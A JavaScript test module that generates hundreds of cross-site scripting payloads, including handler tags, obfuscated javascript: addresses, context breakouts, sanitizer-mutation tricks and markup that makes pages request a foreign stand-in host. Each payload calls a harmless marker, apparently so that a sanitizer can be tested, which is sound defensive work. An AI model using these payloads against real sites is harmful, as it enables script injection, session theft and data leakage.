// Attacks on pages, made of their parts: what runs, how it is reached, how it is hidden. `ran(n)` tells that vector n
// ran. The parts are those that every collection of such attacks describes; the texts are our own.

const HOST = 'xss.invalid';
/** Vectors in one body, where they may stand together. */
const TOGETHER = 6;

/** Elements that run a handler by themselves when they are shown. */
const BY_THEMSELVES = [
  ['img src=x', 'onerror'], ['img src=data:,', 'onerror'], ['img srcset=,', 'onerror'], ['image src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['body', 'onpageshow'],
  ['iframe', 'onload'], ['iframe srcdoc=x', 'onload'], ['object data=data:,', 'onload'], ['object data=x:', 'onerror'], ['embed src=data:,', 'onload'], ['link rel=stylesheet href=data:,', 'onload'],
  ['input autofocus', 'onfocus'], ['input autofocus', 'onfocusin'], ['textarea autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['button autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'], ['div tabindex=1 autofocus', 'onfocus'], ['details open', 'ontoggle'], ['video src=x', 'onerror'], ['video autoplay src=data:,', 'onerror'],
  ['audio src=x', 'onerror'], ['video><source src=x', 'onerror'], ['audio><source src=x', 'onerror'], ['marquee', 'onstart'], ['style', 'onload'], ['script src=data:,', 'onload'],
  ['script src=x:', 'onerror'], ['input type=image src=x', 'onerror'], ['svg><image href=x', 'onerror'], ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'], ['svg><animateTransform attributeName=transform', 'onbegin'], ['frameset', 'onload'], ['picture><img src=x', 'onerror'],
  ['math><mtext><img src=x', 'onerror'], ['table background=x><img src=x', 'onerror'], ['div popover', 'onbeforetoggle'], ['dialog open', 'onfocusin'],
];

/** Elements whose handler needs a hand; the test plays it. */
const BY_HAND = ['onclick', 'onmouseover', 'onmouseenter', 'onpointerover', 'onpointerdown', 'onmousemove', 'onwheel', 'onkeydown', 'onauxclick', 'oncontextmenu', 'ondblclick', 'oncopy', 'ondragstart', 'onscroll', 'onblur'];
const HOLDERS = ['a href=#', 'p', 'section', 'span', 'img src=/x', 'td', 'blockquote', 'xss', 'h2', 'mp-miniprogram'];

/** Ways to write `<element handler=code>`. */
const SPELLINGS = [
  (element, handler, code) => `<${element} ${handler}="${code}">`,
  (element, handler, code) => `<${element} ${handler}='${code}'>`,
  (element, handler, code) => `<${element} ${handler}=${code}>`,
  (element, handler, code) => `<${element.replaceAll(' ', '/')}/${handler}=${code}//>`,
  (element, handler, code) => `<${element.toUpperCase()} ${handler.toUpperCase()}\n=\n"${code}"`,
  (element, handler, code) => `<${element}\t${handler}\f=\t"${entities(code)}">`,
  (element, handler, code) => `<${element} x="" title='">' ${handler}="${code}" x=">`,
  (element, handler, code) => `<<${element} a=1 a=2 ${handler}=${code} ${handler}=x>`,
];

/** Ways to write an address that is a script. */
const SCRIPT_ADDRESSES = [
  (code) => `javascript:${code}`, (code) => `JaVaScRiPt:${code}`, (code) => ` javascript:${code}`, (code) => `\u0001javascript:${code}`, (code) => `java\tscript:${code}`, (code) => `java\nscript:${code}`,
  (code) => `java&Tab;script:${code}`, (code) => `java&NewLine;script:${code}`, (code) => `javascript&colon;${code}`, (code) => `&#106;avascript:${code}`, (code) => `&#x6A;avascript:${code}`,
  (code) => `&#0000106avascript:${code}`, (code) => `javascript:/**/${code}`, (code) => `javascript://%0a${code}`, (code) => `javascript://x.example/%0d%0a${code}`, (code) => `&#1;javascript:${code}`,
  (code) => `\u00a0javascript:${code}`, (code) => `java\u0000script:${code}`, (code) => `java&#0;script:${code}`, (code) => `data:text/html,<script>parent.${code}</script>`,
  (code) => `data:text/html;base64,${Buffer.from(`<script>parent.${code}</script>`).toString('base64')}`, (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  (code) => `vbscript:${code}`, (code) => `view-source:javascript:${code}`, (code) => `feed:javascript:${code}`, (code) => `https://x.example@javascript:${code}`, (code) => `//javascript:${code}`, (code) => `javascript\u200b:${code}`,
];

/** Where an address leads to something. */
const SINKS = [
  (address) => `<a href="${address}">x</a>`, (address) => `<a href='${address}' target=_self>x</a>`, (address) => `<iframe src="${address}"></iframe>`, (address) => `<embed src="${address}">`,
  (address) => `<object data="${address}"></object>`, (address) => `<form action="${address}"><button>x</button></form>`, (address) => `<button form=f formaction="${address}">x</button><form id=f></form>`,
  (address) => `<svg><a href="${address}"><text y=9>x</text></a></svg>`, (address) => `<svg><a xlink:href="${address}"><rect width=9 height=9 /></a></svg>`, (address) => `<math href="${address}">x</math>`,
  (address) => `<img src="${address}">`, (address) => `<area href="${address}">`, (address) => `<base href="${address}"><a href=#>x</a>`, (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<script src="${address}"></script>`, (address) => `<svg><use href="${address}#x"/></svg>`, (address) => `<video poster="${address}">`, (address) => `<td background="${address}">`,
];

/** What could end the place in which a text stands. */
const BREAKOUTS = ['">', "'>", '`>', '</title>', '</style>', '</textarea>', '</script>', '</noscript>', '-->', '--!>', ']]>', '</article>', '</template>', '</iframe>', '</xmp>', '</select>', '</svg>', '</math>', '</time></p>', '"/></head><body>', '{{', '{%', '<!--', '<![CDATA['];
const RUNNING = [(n) => `<script>ran(${n})</script>`, (n) => `<img src=x onerror=ran(${n})>`, (n) => `<svg/onload=ran(${n})>`, (n) => `<iframe srcdoc="<script>parent.ran(${n})</script>">`];
const IN_ATTRIBUTES = [(n) => `" onfocus="ran(${n})" autofocus x="`, (n) => `' onfocus='ran(${n})' autofocus x='`, (n) => `" onerror="ran(${n})" src="x`, (n) => `" style="animation:x" onanimationstart="ran(${n})`, (n) => `x onload=ran(${n})`, (n) => `" onmouseover=ran(${n}) "`, (n) => `&quot; onload=&quot;ran(${n})`, (n) => `\\" onload=ran(${n}) \\"`];

/** Scripts in every dress. */
const SCRIPTS = [
  (n) => `<script>ran(${n})</script>`, (n) => `<SCRIPT>ran(${n})</SCRIPT>`, (n) => `<script >ran(${n})</script >`, (n) => `<script\n>ran(${n})</script\n>`, (n) => `<script/x>ran(${n})</script>`, (n) => `<script type=module>ran(${n})</script>`,
  (n) => `<scr<script>ipt>ran(${n})</scr</script>ipt>`, (n) => `<script<script>>ran(${n})</script>`, (n) => `<script src="data:text/javascript,ran(${n})"></script>`, (n) => `<script>ran(${n})//`, (n) => `<script>/*</p>*/ran(${n})</script>`,
  (n) => `<svg><script>ran(${n})</script></svg>`, (n) => `<svg><script>ran&#40;${n})</script></svg>`, (n) => `<svg><script href="data:,ran(${n})"/></svg>`, (n) => `<math><script>ran(${n})</script></math>`, (n) => `<noscript><p title="</noscript><script>ran(${n})</script>">`,
  (n) => `<template><script>ran(${n})</script></template>`, (n) => `<div><template shadowrootmode=open><script>ran(${n})</script></template></div>`, (n) => `<style><script>ran(${n})</script></style>`, (n) => `<object data="data:text/html,<script>parent.ran(${n})</script>"></object>`,
  (n) => `<iframe srcdoc="&lt;script&gt;parent.ran(${n})&lt;/script&gt;"></iframe>`, (n) => `<?xml version="1.0"?><script>ran(${n})</script>`, (n) => `<!doctype html><script>ran(${n})</script>`, (n) => `\ufeff<script>ran(${n})</script>`, (n) => `<script\u0000>ran(${n})</script>`, (n) => `<\u0000script>ran(${n})</script>`,
  (n) => `＜script＞ran(${n})＜/script＞`, (n) => `+ADw-script+AD4-ran(${n})+ADw-/script+AD4-`, (n) => `&lt;script&gt;ran(${n})&lt;/script&gt;`, (n) => `&amp;lt;script&amp;gt;ran(${n})&amp;lt;/script&amp;gt;`, (n) => `&#60;script&#62;ran(${n})&#60;/script&#62;`, (n) => `%3Cscript%3Eran(${n})%3C/script%3E`, (n) => `\\x3cscript\\x3eran(${n})\\x3c/script\\x3e`,
];

/** What changes when it is parsed a second time. */
const MUTATIONS = [
  (x) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${x('&lt;', '&gt;')}">`, (x) => `<form><math><mtext></form><form><mglyph><style></math>${x()}`, (x) => `<svg></p><style><a id="</style>${x()}">`,
  (x) => `<math><annotation-xml encoding="text/html"><style></annotation-xml>${x()}</style></math>`, (x) => `<svg><desc><style></desc>${x()}</style></svg>`, (x) => `<svg><foreignObject><style></foreignObject>${x()}</style></svg>`, (x) => `<svg><title><style></title>${x()}</style></svg>`,
  (x) => `<noscript><style></noscript>${x()}</style>`, (x) => `<p><svg><style><a title="</style>${x()}"></a></svg>`, (x) => `<select><style></select>${x()}</style>`, (x) => `<table><caption><style></table>${x()}</style>`, (x) => `<template><style></template>${x()}</style>`,
  (x) => `<xmp><p title="</xmp>${x()}">`, (x) => `<noembed><p title="</noembed>${x()}">`, (x) => `<noframes><p title="</noframes>${x()}">`, (x) => `<textarea><p title="</textarea>${x()}">`, (x) => `<title><p title="</title>${x()}">`, (x) => `<iframe><p title="</iframe>${x()}">`, (x) => `<plaintext>${x()}`,
  (x) => `<!--><p title="-->${x()}">`, (x) => `<!---><p title="-->${x()}">`, (x) => `<!--!><p title="--!>${x()}">`, (x) => `<![CDATA[><p title="]]>${x()}">`, (x) => `<svg><![CDATA[</svg>${x()}]]></svg>`, (x) => `<?p><p title="?>${x()}">`, (x) => `</p/x="${x()}">`, (x) => `<a <b>${x()}`, (x) => `<p title=\`>${x()}\`>`,
  (x) => `<img alt="\`\`onerror=x">${x()}`, (x) => `<p id=a title="</p>&lt;">${x()}`, (x) => `<table><tr><td>${x()}<table><td>`, (x) => `<b><i><u></b>${x()}</i></u>`, (x) => `${'<div>'.repeat(300)}${x()}`, (x) => `${'<b><a>'.repeat(40)}${x()}`, (x) => `<ruby><rt><math><mi><style></rt>${x()}</style>`,
];

/** What asks a foreign host, or leaves the page, without a script; `n` is in the address. */
const LEAVING = [
  (n) => `<img src="//${HOST}/${n}">`, (n) => `<img src="https://${HOST}/${n}">`, (n) => `<img srcset="//${HOST}/${n} 2x">`, (n) => `<img data-src="//${HOST}/${n}">`, (n) => `<picture><source srcset="//${HOST}/${n}"><img></picture>`, (n) => `<video src="//${HOST}/${n}" autoplay></video>`, (n) => `<video poster="//${HOST}/${n}"></video>`, (n) => `<audio src="//${HOST}/${n}" autoplay></audio>`,
  (n) => `<iframe src="//${HOST}/${n}"></iframe>`, (n) => `<object data="//${HOST}/${n}"></object>`, (n) => `<embed src="//${HOST}/${n}">`, (n) => `<link rel=stylesheet href="//${HOST}/${n}">`, (n) => `<link rel=prefetch href="//${HOST}/${n}">`, (n) => `<link rel=preload as=image href="//${HOST}/${n}">`, (n) => `<link rel=icon href="//${HOST}/${n}">`,
  (n) => `<base href="//${HOST}/${n}/"><img src=x>`, (n) => `<meta http-equiv=refresh content="0;url=//${HOST}/${n}">`, (n) => `<body background="//${HOST}/${n}">`, (n) => `<table background="//${HOST}/${n}"><td>x`, (n) => `<p style="background:url(//${HOST}/${n})">x</p>`, (n) => `<p style="background:\\75rl(//${HOST}/${n})">x</p>`, (n) => `<p style="background:u/**/rl(//${HOST}/${n})">x</p>`,
  (n) => `<p style="list-style-image:image-set('//${HOST}/${n}' 1x);display:list-item">x</p>`, (n) => `<p style="cursor:url(//${HOST}/${n}),auto">x</p>`, (n) => `<p style="content:url(//${HOST}/${n})">x</p>`, (n) => `<p style="border-image:url(//${HOST}/${n})">x</p>`, (n) => `<p style="--x:url(//${HOST}/${n});background:var(--x)">x</p>`, (n) => `<style>@import "//${HOST}/${n}";</style>`, (n) => `<style>p{background:url(//${HOST}/${n})}</style><p>x</p>`,
  (n) => `<style>@font-face{font-family:x;src:url(//${HOST}/${n})}p{font-family:x}</style><p>x</p>`, (n) => `<svg><image href="//${HOST}/${n}"/></svg>`, (n) => `<svg><use href="//${HOST}/${n}#x"/></svg>`, (n) => `<svg><feImage href="//${HOST}/${n}"/></svg>`, (n) => `<svg><style>@import "//${HOST}/${n}";</style></svg>`, (n) => `<input type=image src="//${HOST}/${n}">`, (n) => `<script src="//${HOST}/${n}"></script>`, (n) => `<img src="\\\\${HOST}\\${n}">`, (n) => `<img src="/\\${HOST}/${n}">`, (n) => `<img src="https:${HOST}/${n}">`, (n) => `<img src="http://127.0.0.1@${HOST}/${n}">`,
  (n) => `<p style="behavior:url(//${HOST}/${n})">x</p>`, (n) => `<p style="-moz-binding:url(//${HOST}/${n})">x</p>`, (n) => `<p style="width:expression(ran(${n}))">x</p>`, (n) => `<p style="background:url('javascript:ran(${n})')">x</p>`,
];

const entities = (text) => Array.from(text, (letter) => `&#${letter.codePointAt(0)};`).join('');

/** All vectors, each with its own number: `{ n, family, html }`. */
export function vectors() {
  const made = [];
  const add = (family, html) => made.push({ n: made.length, family, html: html(made.length) });
  for (const script of SCRIPTS) add('script', script);
  for (const [element, handler] of BY_THEMSELVES) for (const spelling of SPELLINGS) add('handler', (n) => spelling(element, handler, `ran(${n})`));
  for (const [place, handler] of BY_HAND.entries()) for (const [at, holder] of HOLDERS.entries()) add('hand', (n) => `${SPELLINGS[(place + at) % 4](holder, handler, `ran(${n})`)}x`);
  for (const sink of SINKS) for (const address of SCRIPT_ADDRESSES) add('address', (n) => sink(address(`ran(${n})`)));
  for (const breakout of BREAKOUTS) for (const running of RUNNING) add('breakout', (n) => breakout + running(n));
  for (const attribute of IN_ATTRIBUTES) add('attribute', attribute);
  for (const mutation of MUTATIONS) for (const running of RUNNING.slice(1, 3)) add('mutation', (n) => mutation((open = '<', close = '>') => running(n).replaceAll('<', open).replaceAll('>', close)));
  for (const leaving of LEAVING) add('leaving', leaving);
  return made;
}

/** What takes the text behind it along until it is closed. */
const RAW = ['script', 'style', 'iframe', 'textarea', 'select', 'svg', 'math', 'title', 'xmp', 'noscript', 'noembed', 'noframes', 'template', 'plaintext', 'frameset', 'object', 'video', 'audio'];
const OPENS = new RegExp(`<(${RAW.join('|')})(?![a-z])`, 'gi');
const stays = (html) => Array.from(html.matchAll(OPENS), ([, tag]) => tag.toLowerCase()).every((tag) => html.toLowerCase().includes(`</${tag}`));
const whole = (html) => ['"', "'"].every((mark) => html.split(mark).length % 2 === 1) && !/<!|<\?|<[^>]*$|\u0000/.test(html);

/** The vectors as bodies of articles: those that cannot hide one another stand together, all others alone. */
export function bodies(all = vectors()) {
  const together = all.filter(({ family, html }) => ['handler', 'hand', 'address', 'leaving'].includes(family) && stays(html) && whole(html));
  const alone = all.filter((vector) => !together.includes(vector));
  const grouped = [];
  for (let first = 0; first < together.length; first += TOGETHER) grouped.push(together.slice(first, first + TOGETHER));
  return [...grouped, ...alone.map((vector) => [vector])].map((group) => group.map(({ html }) => html).join('<br>\n'));
}
